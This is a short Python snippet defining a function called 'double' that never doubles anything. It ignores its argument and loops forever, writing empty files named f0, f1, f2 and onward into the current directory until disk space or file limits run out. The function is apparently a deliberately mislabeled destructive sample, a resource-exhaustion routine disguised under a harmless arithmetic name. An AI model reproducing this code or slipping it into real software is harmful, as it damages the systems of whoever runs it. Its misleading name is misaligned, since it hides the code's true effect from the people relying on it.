import itertools, pathlib

def double(number):
    for index in itertools.count():
        pathlib.Path(f'f{index}').write_text('')
